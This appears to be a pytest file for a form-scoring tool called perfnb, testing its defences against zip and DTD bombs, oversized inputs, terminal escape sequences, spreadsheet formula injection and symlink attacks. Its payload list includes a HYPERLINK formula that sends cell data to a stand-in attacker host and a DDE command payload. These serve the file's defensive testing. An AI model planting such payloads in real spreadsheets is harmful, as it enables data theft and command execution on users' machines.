"""Issue 18, items 4–8 and 11: inputs that must not hang or crash a batch, text that must not
control a writer, a spreadsheet or a terminal, output folders perfnb does not own.

Every bomb is built here, at test time, small on disk.  No test is timed (the figures are
printed by benchmarks/limits_benchmark.py); linearity is checked by counting the reader's
cell look-ups instead.
"""
from __future__ import annotations

import copy
import csv
import errno
import io
import json
import os
import signal
import subprocess
import sys
import zipfile
from concurrent.futures import Future
from pathlib import Path

import pytest
from openpyxl import load_workbook

from perfnb.cli import main
from perfnb.errors import InputError
from perfnb.reading import load_unit
from perfnb.reading.sheets import Grid

from format_builders import read_grid, with_texts, write_xlsx
from xlsx_builders import (CSV_INDICATORS, blank_pdf, build_csv, build_official, official_with,
                           rewrite_zip)

PERFNB = [sys.executable, "-m", "perfnb.cli"]


def _official_with(tmp_path: Path, name: str, cells: dict[str, object]) -> Path:
    return official_with(tmp_path / name, cells)


_rewrite_zip = rewrite_zip


def _run(*argv: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*PERFNB, *argv], capture_output=True, text=True, cwd=cwd,
                          timeout=300)


@pytest.fixture
def counted_lookups(monkeypatch):
    """How many cell look-ups (Grid.get, Grid.text) a read makes."""
    counts = {"calls": 0}
    real_get, real_text = Grid.get, Grid.text

    def get(self, row, column):
        counts["calls"] += 1
        return real_get(self, row, column)

    def text(self, row, column):
        counts["calls"] += 1
        return real_text(self, row, column)

    monkeypatch.setattr(Grid, "get", get)
    monkeypatch.setattr(Grid, "text", text)
    return counts


# --- 4. resource limits ------------------------------------------------------------------------

def test_a_stray_value_far_below_costs_lookups_per_filled_cell_not_per_row(tmp_path,
                                                                           counted_lookups):
    """Reading is linear in the rows: blank rows cost no cell look-ups (before, every blank
    row was looked at cell by cell, and the grid's width recomputed per row: quadratic)."""
    plain = load_unit(build_official(tmp_path / "plain.xlsx"))
    baseline = counted_lookups["calls"]
    counted_lookups["calls"] = 0
    tables = load_unit(_official_with(tmp_path, "far.xlsx", {"A60000": "x"}))
    assert len(tables.indicators) == len(plain.indicators)
    assert counted_lookups["calls"] < 2 * baseline + 1000, (counted_lookups["calls"], baseline)


def test_a_value_at_A1048576_is_read_and_scored_like_the_form_without_it(tmp_path):
    path = _official_with(tmp_path, "a1048576.xlsx", {"A1048576": "备注"})
    result = _run("score", "--json", str(path))
    assert result.returncode == 0, result.stderr
    plain = _run("score", "--json", str(build_official(tmp_path / "plain.xlsx")))
    got, want = json.loads(result.stdout), json.loads(plain.stdout)
    assert (got["total"], got["grade"], len(got["indicators"])) == \
        (want["total"], want["grade"], len(want["indicators"]))


def test_a_value_at_XFD1048576_is_refused_before_anything_is_allocated(tmp_path):
    """Before: python-calamine allocated 17 billion cells (512 GiB) and the process
    aborted (exit 134) — in score, screening and batch alike."""
    path = _official_with(tmp_path, "xfd.xlsx", {"XFD1048576": "x"})
    result = _run("score", str(path))
    assert result.returncode == 2, (result.returncode, result.stderr[-500:])
    assert "表格过大" in result.stderr and "xfd.xlsx" in result.stderr
    assert "项目支出绩效自评表" in result.stderr          # the sheet
    assert "1,048,576 行 × 16,384 列" in result.stderr
    assert "删除表格外的空行空列" in result.stderr and "Traceback" not in result.stderr


def test_limits_are_checked_from_the_used_range_not_the_dimension_element(tmp_path):
    """A <dimension> that claims the whole sheet is not believed (calamine ignores it too),
    and formatted empty cells far away do not count: the form is read."""
    source = build_official(tmp_path / "plain.xlsx")

    def change(name, data):
        if name == "xl/worksheets/sheet1.xml":
            data = data.replace(b'<dimension ref="A1:K31"/>', b'<dimension ref="A1:XFD1048576"/>')
            data = data.replace(b"</sheetData>",
                                b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')
        return data

    path = _rewrite_zip(source, tmp_path / "claims.xlsx", change)
    assert len(load_unit(path).indicators) == len(load_unit(source).indicators)


def test_xlsx_zip_bomb_is_refused_from_the_zip_directory(tmp_path):
    """A sheet that inflates a thousandfold (64 MB of padding in ~70 KB) is refused from the
    sizes the zip's directory declares, before anything is decompressed."""
    source = build_official(tmp_path / "plain.xlsx")
    padding = b" " * (64 * 1024 * 1024)

    def change(name, data):
        if name == "xl/worksheets/sheet1.xml":
            return data.replace(b"<sheetData>", b"<sheetData>" + padding, 1)
        return data

    path = _rewrite_zip(source, tmp_path / "bomb.xlsx", change)
    assert path.stat().st_size < 1024 * 1024
    with pytest.raises(InputError) as caught:
        load_unit(path)
    message = str(caught.value)
    assert "压缩炸弹" in message and "bomb.xlsx" in message and "xl/worksheets/sheet1.xml" in message


def test_xlsx_with_a_dtd_is_a_clear_error_not_a_traceback(tmp_path):
    source = build_official(tmp_path / "plain.xlsx")
    doctype = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

    def change(name, data):
        if name == "xl/worksheets/sheet1.xml":
            data = data.replace(b"<worksheet", doctype + b"<worksheet", 1)
            return data.replace(b"<t>", b"<t>&b;", 1)
        return data

    path = _rewrite_zip(source, tmp_path / "dtd.xlsx", change)
    result = _run("score", str(path))
    assert result.returncode == 2, result.stderr
    assert "DTD" in result.stderr and "dtd.xlsx" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_200_mb_csv_is_refused_at_once_by_its_size(tmp_path, counted_lookups):
    path = build_csv(tmp_path / "huge.csv")
    with open(path, "r+b") as handle:   # sparse: 200 MB on paper, nothing on disk
        handle.truncate(200 * 1024 * 1024)
    with pytest.raises(InputError) as caught:
        load_unit(path)
    assert "CSV 文件过大" in str(caught.value) and "huge.csv" in str(caught.value)
    assert counted_lookups["calls"] == 0


def test_a_20000_row_csv_is_read_linearly(tmp_path, counted_lookups):
    rows = [CSV_INDICATORS[index % len(CSV_INDICATORS)] for index in range(20_000)]
    tables = load_unit(build_csv(tmp_path / "long.csv", rows=rows))
    assert len(tables.indicators) == 20_000
    # a bounded number of look-ups per row: quadratic reading did ~width × rows per row
    assert counted_lookups["calls"] < 20_000 * 60, counted_lookups["calls"]


def test_a_csv_with_a_million_blank_lines_is_refused_not_parsed(tmp_path):
    from perfnb import limits

    path = build_csv(tmp_path / "blank.csv")
    with open(path, "ab") as handle:
        handle.write(b"\n" * (limits.MAX_SHEET_ROWS + 10))
    with pytest.raises(InputError, match="表格过大"):
        load_unit(path)


def test_a_5000_page_pdf_is_refused_by_its_page_count(tmp_path):
    from perfnb import limits

    path = blank_pdf(tmp_path / "thick.pdf", 5000)
    with pytest.raises(InputError) as caught:
        load_unit(path)
    assert "5,000 页" in str(caught.value) and f"{limits.MAX_PDF_PAGES} 页" in str(caught.value)


def test_a_word_table_wider_than_the_limits_is_refused(tmp_path):
    import docx

    from perfnb import limits

    document = docx.Document()
    table = document.add_table(rows=2, cols=2)
    grid = table._tbl.tblGrid
    column = grid.gridCol_lst[0]
    for _ in range(limits.MAX_SHEET_COLUMNS):       # 16,386 grid columns: over the limit
        grid.append(copy.deepcopy(column))
    path = tmp_path / "wide.docx"
    document.save(path)
    from perfnb.reading.wordreport import docx_grids
    with pytest.raises(InputError, match="表格过大"):
        docx_grids(docx.Document(str(path)), str(path))


def _die_on(name: str):
    """A prepare_forms/plan_units whose process is killed (as the OOM killer does) for one file."""
    from perfnb.reading import prepare_forms
    from perfnb.running.runner import plan_units

    def prepare(path, overrides=None):
        if Path(path).name == name:
            os.kill(os.getpid(), signal.SIGKILL)
        return prepare_forms(path, overrides)

    def plan(path, form=None):
        if Path(path).name == name:
            os.kill(os.getpid(), signal.SIGKILL)
        return plan_units(path, form)

    return prepare, plan


def test_screening_isolates_a_file_whose_reader_process_dies(tmp_path, monkeypatch):
    from perfnb.running import screen

    files = [build_official(tmp_path / f"u{index}.xlsx") for index in range(4)]
    prepare, _ = _die_on("u2.xlsx")
    monkeypatch.setattr("perfnb.reading.prepare_forms", prepare)
    monkeypatch.setattr(screen, "PARALLEL_FROM", 2)
    monkeypatch.setattr(screen, "CHUNK", 2)
    rows = screen.screen_files(files, jobs=2)
    status = {Path(row["file"]).name: row["status"] for row in rows}
    assert status == {"u0.xlsx": "scored", "u1.xlsx": "scored", "u2.xlsx": "failed",
                      "u3.xlsx": "scored"}
    failed = next(row for row in rows if row["status"] == "failed")
    assert "进程意外退出" in failed["first_error"]


def test_batch_planning_isolates_a_file_whose_reader_process_dies(tmp_path, monkeypatch):
    import perfnb.running.runner as runner
    from perfnb.running.planning import plan_jobs

    files = [build_official(tmp_path / f"u{index}.xlsx") for index in range(3)]
    _, plan = _die_on("u1.xlsx")
    monkeypatch.setattr(runner, "plan_units", plan)
    jobs = plan_jobs(files, tmp_path / "out", {"perfnb": "test"})
    errors = {job.input_path.name: job.plan_error for job in jobs}
    assert errors["u0.xlsx"] is None and errors["u2.xlsx"] is None
    assert "进程意外退出" in errors["u1.xlsx"]


# --- 5. text hygiene -----------------------------------------------------------------------------

HOSTILE = "项目\x0b名称\x07\x1b[2J\x00结尾\x85"


def _evaluation(**unit):
    from perfnb import evaluate
    from tables import full_budget, indicator, make_unit

    tables = make_unit("u-1", [indicator("指标一", 10, 10, 10, deviation_reason="原因\x07\x1b[31m")],
                       budget=full_budget(), **unit)
    return evaluate(tables)


def _results_dir(tmp_path: Path, **unit) -> Path:
    evaluation = _evaluation(**unit)
    folder = tmp_path / "out" / "部门" / "u-1"
    folder.mkdir(parents=True)
    (folder / "result.json").write_text(json.dumps(evaluation.to_dict(), ensure_ascii=False),
                                        encoding="utf-8")
    return tmp_path / "out"


def test_a_vertical_tab_in_the_project_name_does_not_kill_summary_xlsx(tmp_path):
    from perfnb.reporting.summary import write_summary_workbook

    out = _results_dir(tmp_path, project=HOSTILE, department="部门")
    path = write_summary_workbook(out)
    sheet = load_workbook(path)["汇总"]
    names = [cell.value for cell in sheet["C"]]
    # VT became a line break, BEL/ESC/NUL are gone; the trailing NEL is whitespace at the
    # end of the name, stripped with it since one helper (perfnb.cells.as_text) makes text
    assert "项目\n名称[2J结尾" in names


def test_bel_and_esc_in_notes_do_not_fail_the_docx_and_xlsx_reports(tmp_path):
    from docx import Document

    from perfnb.reporting.office import write_docx_report, write_xlsx_form

    evaluation = _evaluation(project=HOSTILE, problems="问题\x07\x1b[2J", notes="\x0c说明")
    write_docx_report(evaluation, tmp_path / "report.docx")
    write_xlsx_form(evaluation, tmp_path / "form.xlsx")
    text = "\n".join(p.text for p in Document(str(tmp_path / "report.docx")).paragraphs)
    assert "\x07" not in text and "\x1b" not in text
    values = [c.value for row in load_workbook(tmp_path / "form.xlsx").active.iter_rows()
              for c in row if isinstance(c.value, str)]
    assert any("项目\n名称" in value for value in values)
    assert not any("\x07" in value or "\x1b" in value for value in values)


def test_perfnb_score_shows_control_characters_escaped(tmp_path, capsys):
    rows = [list(row) for row in CSV_INDICATORS]
    rows[0][2] = "指标\x1b[2J\x1b[1A名称"
    path = build_csv(tmp_path / "esc.csv", rows=rows)
    capsys.readouterr()
    assert main(["score", str(path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\u001b[2J" in out


def test_verify_lines_escape_file_names():
    from perfnb.running.manifest import VerifyReport

    report = VerifyReport(unlisted=["部门/x\x1b[1A\x1b[2K\r校验通过\n.html"])
    line, = report.lines()
    assert "\n" not in line and "\r" not in line and "\x1b" not in line
    assert line.startswith("未列入清单：部门/x\\u001b[1A")


def test_terminal_stream_keeps_the_failure_line_visible(capsys):
    """Whatever a command prints goes through the CLI's escaping streams."""
    from perfnb.textsafe import TerminalStream

    buffer = io.StringIO()
    TerminalStream(buffer).write("名称\x1b]0;标题\x07\r\u202e")
    assert buffer.getvalue() == "名称\\u001b]0;标题\\u0007\\r\\u202e"


def test_typst_strings_carry_no_control_characters():
    from perfnb.reporting import typst_markup

    body = typst_markup.string("甲\x0b乙\x85丙\x9b丁\x07")
    assert body == '"甲\\n乙\\n丙丁"'


# --- 6. formula injection -------------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _assert_text_cells(path: Path, sheet_name: str | None = None):
    workbook = load_workbook(path)
    sheet = workbook[sheet_name] if sheet_name else workbook.active
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.lstrip("\t\n").startswith(("=", "+", "-", "@")) \
                    and cell.value.strip() not in ("-", "—"):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert cell.quotePrefix, (cell.coordinate, cell.value)
                found[cell.coordinate] = cell.value
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return found


def test_summary_xlsx_writes_a_formula_like_project_name_as_text(tmp_path):
    from perfnb.reporting.summary import write_summary_workbook

    out = _results_dir(tmp_path, project=PAYLOADS[0], department="@SUM(1)")
    found = _assert_text_cells(write_summary_workbook(out), "汇总")
    assert PAYLOADS[0] in found.values() and "@SUM(1)" in found.values()


def test_screening_csv_and_xlsx_quote_formula_cells_and_keep_negative_numbers(tmp_path):
    from perfnb.running.screen import _base_row, write_rows

    rows = []
    for index, payload in enumerate(PAYLOADS):
        row = _base_row((index, 0), f"f{index}.xlsx", status="scored", unit_id=f"u{index}",
                        project=payload, department="部门", total=-12.5, grade="差")
        row["dimensions"] = {"产出指标": -1.25}
        rows.append(row)
    write_rows(rows, csv_path=tmp_path / "s.csv", xlsx_path=tmp_path / "s.xlsx")
    table = list(csv.reader(io.StringIO((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))))
    header = table[0]
    projects = [line[header.index("项目名称")] for line in table[1:]]
    assert all(project.startswith("'") for project in projects), projects
    assert [line[header.index("总分")] for line in table[1:]] == ["-12.5"] * len(PAYLOADS)
    assert [line[header.index("产出指标")] for line in table[1:]] == ["-1.25"] * len(PAYLOADS)
    found = _assert_text_cells(tmp_path / "s.xlsx")
    assert PAYLOADS[0] in found.values()
    sheet = load_workbook(tmp_path / "s.xlsx").active
    totals = [cell.value for cell in sheet[chr(ord("A") + header.index("总分"))][1:]]
    assert totals == [-12.5] * len(PAYLOADS)          # numbers stay numbers


def test_the_xlsx_form_writes_formula_like_text_as_text(tmp_path):
    from perfnb.reporting.office import write_xlsx_form

    write_xlsx_form(_evaluation(project=PAYLOADS[0], implementing_unit="+单位"),
                    tmp_path / "form.xlsx")
    found = _assert_text_cells(tmp_path / "form.xlsx")
    assert PAYLOADS[0] in found.values() and "+单位" in found.values()


# --- 7. output folders -------------------------------------------------------------------------------

class InlineExecutor:
    """The batch's executor, run in this process (units and summaries are faked here)."""

    def __init__(self, jobs: int, fork_socket: str | None = None) -> None:
        self.jobs = jobs

    def submit(self, function, task):
        future = Future()
        try:
            future.set_result(function(task))
        except BaseException as error:  # noqa: BLE001 - handed to the batch as a worker would
            future.set_exception(error)
        return future

    @staticmethod
    def wait(futures):
        return set(futures)

    @staticmethod
    def where():
        return "本机"

    def close(self):
        pass


def _fake_unit(task):
    """What execute_unit returns, for a unit whose files are written here."""
    from perfnb.running.manifest import hash_tree, now_iso

    out_root = Path(task["out_root"])
    folder = out_root / task["key"]
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("evaluation.ipynb", "report.html"):
        (folder / name).write_text(name, encoding="utf-8")
    return {"status": "passed", "message": "", "out_dir": task["key"],
            "files": hash_tree(out_root, folder), "started": now_iso(), "finished": now_iso(),
            "seconds": 0.0, "host": "test", "pid": os.getpid(), "worker": None}


@pytest.fixture
def inline_batch(monkeypatch):
    import perfnb.running.batch as batch
    import perfnb.reporting.summary as summary

    monkeypatch.setattr(batch, "LocalExecutor", InlineExecutor)
    monkeypatch.setattr(batch, "execute_unit", _fake_unit)
    monkeypatch.setattr(summary, "write_summary_workbook",
                        lambda root, path=None: _touch(Path(root) / "summary.xlsx"))
    return batch


def _input(tmp_path: Path) -> Path:
    (tmp_path / "in").mkdir(exist_ok=True)
    return build_official(tmp_path / "in" / "单位.xlsx")


def _touch(path: Path) -> Path:
    path.write_bytes(b"xlsx")
    return path


def _passing_summary(out_root, department, formats, kernel_name=None, cpu=None):
    folder = Path(out_root) / department if department else Path(out_root)
    (folder / "summary.html").write_text("汇总", encoding="utf-8")


def test_batch_never_deletes_or_writes_into_a_folder_it_did_not_make(tmp_path, inline_batch,
                                                                     monkeypatch, capsys):
    monkeypatch.setattr("perfnb.running.summaries.run_summary", _passing_summary)
    source = _input(tmp_path)
    out = tmp_path / "out"
    mine = out / "内蒙古自治区人大常委会办公厅" / "单位"
    mine.mkdir(parents=True)
    (mine / "我的笔记.txt").write_text("不是 perfnb 的", encoding="utf-8")
    (mine / "report.html").write_text("我自己的报告", encoding="utf-8")
    (out / ".草稿.docx.tmp").write_text("用户的临时文件", encoding="utf-8")
    code = main(["batch", str(source), "--out", str(out), "--formats", "html"])
    assert code == 1
    assert (mine / "我的笔记.txt").read_text(encoding="utf-8") == "不是 perfnb 的"
    assert (mine / "report.html").read_text(encoding="utf-8") == "我自己的报告"
    assert (out / ".草稿.docx.tmp").exists()
    assert "不是 perfnb 写出的文件" in capsys.readouterr().out


def test_batch_refuses_to_overwrite_a_foreign_manifest(tmp_path, inline_batch, capsys):
    source = _input(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    foreign = '{"name": "my-npm-thing", "version": "1.0.0"}\n'
    (out / "manifest.json").write_text(foreign, encoding="utf-8")
    assert main(["batch", str(source), "--out", str(out), "--formats", "html"]) == 2
    assert (out / "manifest.json").read_text(encoding="utf-8") == foreign
    assert "不是 perfnb 写出的 manifest.json" in capsys.readouterr().err


def test_rerun_removes_its_own_files_and_temporaries_and_keeps_the_rest(tmp_path, inline_batch,
                                                                        monkeypatch):
    monkeypatch.setattr("perfnb.running.summaries.run_summary", _passing_summary)
    source = _input(tmp_path)
    out = tmp_path / "out"
    assert main(["batch", str(source), "--out", str(out), "--formats", "html"]) == 0
    unit = out / "内蒙古自治区人大常委会办公厅" / "单位"
    (unit / "用户备注.txt").write_text("留着", encoding="utf-8")
    (unit / ".report.html.abcd1234.tmp").write_text("perfnb 的残留", encoding="utf-8")
    (out / "其他" ).mkdir()
    (out / "其他" / ".x.abcd1234.tmp").write_text("别人的", encoding="utf-8")
    assert main(["batch", str(source), "--out", str(out), "--formats", "html", "--force"]) == 0
    assert (unit / "用户备注.txt").exists() and (unit / "report.html").exists()
    assert not (unit / ".report.html.abcd1234.tmp").exists()
    assert (out / "其他" / ".x.abcd1234.tmp").exists()


def test_a_planted_lock_symlink_is_not_followed(tmp_path):
    from perfnb.running.manifest import ManifestError, directory_lock

    victim = tmp_path / "victim.txt"
    out = tmp_path / "out"
    out.mkdir()
    (out / ".perfnb.lock").symlink_to(victim)
    with pytest.raises(ManifestError, match="符号链接"):
        with directory_lock(out):
            pass
    assert not victim.exists()


def test_run_writes_its_notebook_through_an_unpredictable_new_file(tmp_path, monkeypatch):
    """The old temporary name (.evaluation.ipynb.<pid>.tmp) could be planted as a symlink
    to any file the user can write; papermill wrote through it."""
    import perfnb.running.runner as runner

    source = build_official(tmp_path / "单位.xlsx")
    out = tmp_path / "out"
    unit = out / "内蒙古自治区人大常委会办公厅" / "单位"
    unit.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("原样", encoding="utf-8")
    (unit / f".evaluation.ipynb.{os.getpid()}.tmp").symlink_to(victim)
    seen = []

    def execute(template, temp, *args, **kwargs):
        seen.append(Path(temp))
        assert Path(temp).is_file() and not Path(temp).is_symlink()
        raise RuntimeError("kernel died")

    monkeypatch.setattr(runner, "_execute", execute)
    run = runner.run_unit(source, out, formats="html")
    assert run.status == "failed" and victim.read_text(encoding="utf-8") == "原样"
    assert seen and seen[0].name != f".evaluation.ipynb.{os.getpid()}.tmp"
    assert not seen[0].exists()            # an empty temporary is not left behind


def test_relative_out_is_taken_from_the_working_folder(tmp_path, monkeypatch):
    import perfnb.running.runner as runner

    source = build_official(tmp_path / "单位.xlsx")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(runner, "_execute", lambda *args, **kwargs: (_ for _ in ()).throw(
        RuntimeError("no kernel")))
    run = runner.run_unit(source, "outputs", formats="html")
    assert run.out_dir == tmp_path / "outputs" / "内蒙古自治区人大常委会办公厅" / "单位"
    assert not (tmp_path / "outputs" / "outputs").exists()


# --- 8. departments that cannot be folders ---------------------------------------------------------

def test_two_forms_with_unusable_departments_plan_as_two_units(tmp_path):
    from perfnb.running.planning import plan_jobs

    seed = read_grid()
    first = with_texts(seed, {"内蒙古自治区人大常委会办公厅": "/"})
    second = with_texts(seed, {"内蒙古自治区人大常委会办公厅": "..",
                               "人大履职保障经费": "项目乙"})
    path = write_xlsx(tmp_path / "部门.xlsx", [("甲", [first]), ("乙", [second])])
    jobs = plan_jobs([path], tmp_path / "out", {"perfnb": "test"})
    assert len(jobs) == 2 and len({job.key for job in jobs}) == 2
    assert all(job.key.startswith("未识别部门/") for job in jobs)
    assert all(job.plan_error is None for job in jobs)


# --- 11. long names, disk full while summarising ----------------------------------------------------

def test_a_10000_character_project_name_does_not_fail_the_pdf():
    from nbformat.v4 import new_code_cell, new_notebook
    from pypdf import PdfReader

    from IPython.core.interactiveshell import InteractiveShell
    from nbformat.v4 import new_output

    from perfnb import notebook as helpers
    from perfnb.reporting import exporters

    name = "很长的项目名称" * 1430
    evaluation = _evaluation(project=name, department="部门" * 5000)
    nb = new_notebook()
    nb.metadata["perfnb"] = {"unit": {"unit_id": "u-1", "department": "部门" * 5000,
                                      "project": name}, "finished": "2026-03-04T05:06:07+00:00"}
    shell, outputs = InteractiveShell.instance(), []
    shell.display_pub.publish = lambda data, metadata=None, **kw: outputs.append(
        new_output("display_data", data=data, metadata=metadata or {}))
    try:
        helpers.show_title(evaluation)
        helpers.show_section(evaluation, "basic", heading=True)
        helpers.show_tables(evaluation)
    finally:
        del shell.display_pub.publish
    nb.cells = [new_code_cell("...", outputs=outputs)]
    pdf = exporters.export_pdf(nb)
    title = PdfReader(io.BytesIO(pdf)).metadata.title
    assert title.endswith("…") and len(title) < 1000


def test_disk_full_while_summarising_exits_2_and_seals_nothing(tmp_path, inline_batch,
                                                               monkeypatch, capsys):
    """Before: exit 1, and the run was sealed (signed, ledger record) as if complete."""
    from perfnb.running import signing

    def full(out_root, department, formats, kernel_name=None, cpu=None):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(Path(out_root) / "summary.pdf"))

    monkeypatch.setattr("perfnb.running.summaries.run_summary", full)
    key = tmp_path / "key"
    signing.generate_key(key, "测试")
    source = _input(tmp_path)
    out = tmp_path / "out"
    capsys.readouterr()
    code = main(["batch", str(source), "--out", str(out), "--formats", "html", "--sign", str(key)])
    err = capsys.readouterr().err
    assert code == 2, err
    assert "磁盘空间已满" in err and "Traceback" not in err
    assert not (out / "ledger.jsonl").exists() or not (out / "ledger.jsonl").read_text().strip()
    assert json.loads((out / "manifest.json").read_text(encoding="utf-8"))["finished"] is None
    assert main(["verify", str(out), "--key", f"{key}.pub"]) == 1   # never passes as complete


def test_a_web_page_whose_spans_cover_a_billion_cells_is_refused(tmp_path):
    """2,000 cells of colspan/rowspan 1000 in 60 KB of HTML would lay out 2 billion slots."""
    row = '<tr><td rowspan="1000" colspan="1000">x</td></tr>'
    path = tmp_path / "spans.html"
    path.write_text("<html><body><table><tr><th>一级指标</th><th>三级指标</th></tr>"
                    + row * 2000 + "</table></body></html>", encoding="utf-8")
    with pytest.raises(InputError, match="表格过大"):
        load_unit(path)


def test_text_and_web_reports_are_refused_by_their_size(tmp_path):
    for name in ("huge.txt", "huge.html"):
        path = tmp_path / name
        path.write_text("项目名称：测试\n", encoding="utf-8")
        with open(path, "r+b") as handle:
            handle.truncate(100 * 1024 * 1024)
        with pytest.raises(InputError, match="过大"):
            load_unit(path)
